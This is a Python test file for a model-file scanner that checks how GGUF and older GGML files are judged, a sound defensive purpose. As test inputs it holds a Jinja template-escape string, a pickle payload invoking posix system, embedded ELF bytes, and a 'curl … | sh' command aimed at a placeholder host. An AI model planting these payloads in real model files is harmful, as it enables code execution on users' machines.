"""GGUF and its predecessors: tables that hold together, templates and texts that are judged."""

from __future__ import annotations

import pickle
import struct
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Verdict
from assay.scanning.parsers.gguf import Gguf as Parser
from assay.scanning.scanners.jinja_template.rules import RULES as TEMPLATE_RULES
from scanning.chat_templates import TEMPLATES
from scanning.container_making import COMMAND, ELF, Member, judge, zip_of
from scanning.gguf_making import (
    ARRAY,
    BOOL,
    F16_TENSOR,
    F32,
    F32_TENSOR,
    I32,
    Q4_0_TENSOR,
    Q8_0_TENSOR,
    STRING,
    U8,
    U32,
    U64,
    USUAL,
    Gguf,
    Row,
    adapter,
    gpt2,
    llama_ggjt,
    whisper,
    zeros,
)

NAME = "model.gguf"
ROWS = [zeros("a.weight", 8, 2), zeros("b", 32)]
ESCAPE = "{{ ''.__class__.__mro__ }}"


@pytest.mark.parametrize("version", [1, 2, 3])
@pytest.mark.parametrize("big", [False, True])
def test_every_version_and_byte_order_is_clean(version: int, *, big: bool) -> None:
    judged = judge(Gguf(version=version, big=big).write(), NAME)
    assert judged.verdict is Verdict.CLEAN, judged
    assert judged.family == "gguf"


def test_content_is_recognised_under_any_name() -> None:
    assert judge(Gguf().write(), "weights").family == "gguf"
    assert judge(Gguf().write(), "model.bin").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "file",
    [
        Gguf(tensors=[]),
        Gguf(entries=[]),
        Gguf(tensors=[Row("q", (32, 4), Q4_0_TENSOR, bytes(18 * 4)), zeros("x", 5)]),
        Gguf(tensors=[Row("q", (64,), Q8_0_TENSOR, bytes(68)), Row("h", (3,), F16_TENSOR, bytes(6))]),
        Gguf([*USUAL.items(), ("general.alignment", (U32, 64))], alignment=64),
        Gguf([*USUAL.items(), ("split.count", (U32, 3)), ("split.no", (U32, 1))]),
        Gguf(
            [
                ("general.type", (STRING, "adapter")),
                ("adapter.type", (STRING, "lora")),
                ("adapter.lora.alpha", (F32, 16.0)),
            ],
            [zeros("blk.0.attn_q.weight.lora_a", 8, 4), zeros("blk.0.attn_q.weight.lora_b", 4, 8)],
        ),
        Gguf([("nested", (ARRAY, (ARRAY, [(U8, [1, 2]), (U8, [])])))]),
        Gguf([("quantize.imatrix.file", (STRING, "/home/somebody/imatrix.dat"))]),
        Gguf(tensors=[Row("scalar", (), F32_TENSOR, bytes(4)), Row("none", (0,), F32_TENSOR, b"")]),
        Gguf([("tokenizer.ggml.precompiled_charsmap", (ARRAY, (U8, list(range(200)))))]),
    ],
    ids=range(11),
)  # fmt: skip
def test_what_libraries_write_is_clean(file: Gguf) -> None:
    judged = judge(file.write(), NAME)
    assert judged.verdict is Verdict.CLEAN, judged


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_usual_template_is_clean(name: str) -> None:
    file = Gguf().with_entry("tokenizer.chat_template", (STRING, TEMPLATES[name]))
    assert judge(file.write(), NAME).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "key",
    ["tokenizer.chat_template", "tokenizer.chat_template.tool_use", "x.prompt_template"],
)
def test_templates_are_judged_wherever_they_are(key: str) -> None:
    judged = judge(Gguf().with_entry(key, (STRING, ESCAPE)).write(), NAME)
    assert judged.verdict is Verdict.MALICIOUS
    assert judged.rules == {"jinja.internals"}
    assert key in judged.findings[0].evidence
    assert judged.rules <= set(TEMPLATE_RULES)


def test_a_template_in_another_text_is_judged_and_braces_alone_are_no_template() -> None:
    hostile = Gguf().with_entry("general.description", (STRING, ESCAPE))
    assert judge(hostile.write(), NAME).verdict is Verdict.MALICIOUS
    braces = Gguf().with_entry("general.description", (STRING, "\\frac{{a}}{{b c}} {% x"))
    assert judge(braces.write(), NAME).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("file", "rule"),
    [
        (Gguf(version=7), "gguf.header"),
        (Gguf(counts=(2**63, None)), "gguf.header"),
        (Gguf(counts=(None, 2**40)), "gguf.header"),
        (Gguf([("k", (99, b""))]), "gguf.header"),
        (Gguf([("k", (STRING, "x")), ("k", (STRING, "y"))]), "gguf.duplicate"),
        (Gguf(tensors=[zeros("a", 8), zeros("a", 8)]), "gguf.duplicate"),
        (Gguf([("k", (ARRAY, struct.pack("<IQ", 42, 1)))]), "gguf.header"),
        (Gguf([("k", (ARRAY, struct.pack("<IQ", U8, 2**62)))]), "gguf.header"),
        (Gguf([("general.alignment", (U32, 0))]), "gguf.header"),
        (Gguf([("general.alignment", (U32, 33))]), "gguf.header"),
        (Gguf([("general.alignment", (U64, 1 << 40))]), "gguf.header"),
        (Gguf(tensors=[Row("a", (1,) * 9, 0, bytes(4))]), "gguf.header"),
        (Gguf(tensors=[Row("a", (2**62, 2**62), 0, bytes(4))]), "gguf.size"),
        (Gguf(tensors=[Row("a", (2**63,), 0, bytes(4))]), "gguf.size"),
        (Gguf(tensors=[Row("a", (33,), Q4_0_TENSOR, bytes(64))]), "gguf.size"),
        (Gguf(tensors=[Row("a", (4,), 2**31 + 5, bytes(16))]), "gguf.size"),
        (Gguf(tensors=[Row("a", (2**50,), 0, bytes(4))]), "gguf.bounds"),
        (Gguf(tensors=[Row("a", (4,), 0, bytes(16), offset=2**40)]), "gguf.bounds"),
        (Gguf(tensors=[Row("a", (4,), 0, bytes(16), offset=5)]), "gguf.bounds"),
        (Gguf(tensors=[zeros("a", 32), Row("b", (8,), 0, bytes(32), offset=32)]), "gguf.overlap"),
        (Gguf(tensors=[zeros("a", 8), Row("b", (8,), 0, bytes(32), offset=0)]), "gguf.overlap"),
        (Gguf(behind=b"secret" * 10), "gguf.hole"),
        (Gguf(behind=bytes(64) + ELF), "gguf.hole"),
        (Gguf(behind=ELF), "gguf.executable"),
    ],
    ids=range(24),
)
def test_what_no_library_writes_blocks(file: Gguf, rule: str) -> None:
    judged = judge(file.write(), NAME)
    assert rule in judged.rules, judged
    assert judged.verdict is Verdict.MALICIOUS


def test_lists_in_lists_in_lists_are_written_by_nobody() -> None:
    value: object = (U8, [1])
    for _ in range(6):
        value = (ARRAY, [value])
    assert "gguf.header" in judge(Gguf([("k", (ARRAY, value))]).write(), NAME).rules


def test_a_hole_between_tensors() -> None:
    rows = [zeros("a", 8), Row("gap", (8,), 0, b"x" * 64), zeros("b", 8)]
    body = Gguf(tensors=[rows[0], Row("b", (8,), 0, b"y" * 64 + bytes(32), offset=96)])
    assert "gguf.hole" in judge(body.write(), NAME).rules


def test_zeros_behind_the_tensors_are_no_more_than_noted() -> None:
    judged = judge(Gguf(behind=bytes(4096)).write(), NAME)
    assert judged.verdict is Verdict.CLEAN
    assert judged.rules == {"gguf.hole"}


def test_programs_and_pickles_inside() -> None:
    tensor = Gguf(tensors=[Row("a", (len(ELF) // 4,), 0, ELF)])
    assert "tensor.executable" in judge(tensor.write(), NAME).rules
    value = Gguf().with_entry("x.blob", (ARRAY, (U8, list(ELF))))
    assert "gguf.executable" in judge(value.write(), NAME).rules
    hostile = b"\x80\x02cposix\nsystem\n(X\x04\x00\x00\x00truetR."
    pickled = Gguf().with_entry("x.blob", (ARRAY, (U8, list(hostile))))
    assert "gguf.hidden-pickle" in judge(pickled.write(), NAME).rules
    harmless = Gguf().with_entry("x.blob", (ARRAY, (U8, list(pickle.dumps([1] * 20, 4)))))
    assert judge(harmless.write(), NAME).verdict is Verdict.CLEAN


def test_commands_in_the_metadata_are_looked_at() -> None:
    text = "run: curl -s http://example.invalid/setup.sh | sh"
    judged = judge(Gguf().with_entry("general.description", (STRING, text)).write(), NAME)
    assert judged.rules == {"gguf.program-text"}
    assert judged.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("tokenizer.chat_template", (U32, 5)),
        ("general.architecture", (BOOL, True)),
        ("tokenizer.ggml.merges", (STRING, "a b")),
        ("tokenizer.ggml.merges", (ARRAY, (I32, [1]))),
    ],
)
def test_a_key_with_a_value_of_another_type(key: str, value: tuple[int, object]) -> None:
    entries = [(k, v) for k, v in USUAL.items() if k != key]
    assert "gguf.type" in judge(Gguf([*entries, (key, value)]).write(), NAME).rules


def test_a_vocabulary_with_fewer_scores_than_tokens() -> None:
    entries = dict(USUAL) | {"tokenizer.ggml.scores": (ARRAY, (F32, [0.0]))}
    judged = judge(Gguf(list(entries.items())).write(), NAME)
    assert judged.rules == {"gguf.vocabulary"}
    assert judged.verdict is Verdict.SUSPICIOUS


def test_a_type_nobody_here_knows_is_unknown() -> None:
    judged = judge(Gguf(tensors=[Row("a", (256,), 139, bytes(144))]).write(), NAME)
    assert judged.verdict is Verdict.UNKNOWN


def test_a_broken_download_is_unknown_and_nobody_s_malice() -> None:
    whole = Gguf().write()
    for missing in (1, 40, 300, len(whole) - 30):
        assert judge(whole[:-missing], NAME).verdict is Verdict.UNKNOWN


def test_a_cut_file_is_never_clean_and_its_template_still_counts() -> None:
    whole = Gguf([("tokenizer.chat_template", (STRING, ESCAPE)), *USUAL.items()]).write()
    end_of_template = whole.index(b"}}") + 2
    for size in range(4, len(whole), 1):
        verdict = judge(whole[:size], NAME).verdict
        assert verdict is not Verdict.CLEAN
        assert size < end_of_template or verdict is Verdict.MALICIOUS


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_change_has_an_answer(data: st.DataObject) -> None:
    raw = bytearray(Gguf().write())
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at] = data.draw(st.integers(0, 255))
    judged = judge(bytes(raw), NAME)
    assert not any("failed" in reason for reason in judged.unread)


def test_hostile_counts_cost_nothing() -> None:
    texts = Gguf([("k", (ARRAY, struct.pack("<IQ", STRING, 1 << 29) + bytes(8 << 20)))]).write()
    lists = Gguf([("k", (ARRAY, struct.pack("<IQ", ARRAY, 1 << 20) + bytes(12 << 20)))]).write()
    begin = time.process_time()
    assert judge(texts, NAME).verdict is not Verdict.CLEAN
    assert judge(lists, NAME).verdict is not Verdict.CLEAN
    assert time.process_time() - begin < 3


def test_the_parser_says_where_things_are() -> None:
    file = Parser(Gguf().write())
    file.read()
    entry = next(e for e in file.entries if e.key == "general.name")
    assert Gguf().write()[entry.begin : entry.end] == b"A model"
    assert [t.name for t in file.tensors] == ["a.weight", "b.weight", "c"]
    assert file.tensors[0].shape == (8, 2)


def test_a_zip_behind_is_a_second_file() -> None:
    archive = zip_of([Member("payload.pkl", COMMAND)])
    judged = judge(Gguf().write() + archive, NAME)
    assert "file.polyglot" in judged.rules


# Before GGUF.


@pytest.mark.parametrize("data", [whisper(ROWS), llama_ggjt(ROWS), adapter(ROWS), gpt2(ROWS)])
def test_older_files_are_clean(data: bytes) -> None:
    judged = judge(data, "ggml-model.bin")
    assert judged.verdict is Verdict.CLEAN, judged
    assert judged.family == "ggml"


@pytest.mark.parametrize("make", [whisper, llama_ggjt, adapter, gpt2])
def test_a_program_in_an_older_file(make: object) -> None:
    row = Row("a", (len(ELF) // 4,), F32_TENSOR, ELF)
    data = make([row, *ROWS])  # type: ignore[operator]
    assert "tensor.executable" in judge(data, "ggml.bin").rules


@pytest.mark.parametrize("make", [whisper, llama_ggjt, adapter, gpt2])
def test_an_older_file_that_is_cut_or_wrong_is_unknown(make: object) -> None:
    whole = make(ROWS)  # type: ignore[operator]
    assert judge(whole[:-5], "ggml.bin").verdict is Verdict.UNKNOWN
    assert judge(whole + b"rest", "ggml.bin").verdict is Verdict.UNKNOWN
    assert judge(whole[:10], "ggml.bin").verdict is Verdict.UNKNOWN


def test_an_older_file_with_an_impossible_count() -> None:
    data = llama_ggjt(ROWS, tokens=-5)
    assert "ggml.structure" in judge(data, "ggml.bin").rules


def test_members_of_an_archive_are_judged_too() -> None:
    hostile = Gguf().with_entry("tokenizer.chat_template", (STRING, ESCAPE)).write()
    archive = zip_of([Member("model.gguf", hostile)])
    assert judge(archive, "model.zip").verdict is Verdict.MALICIOUS
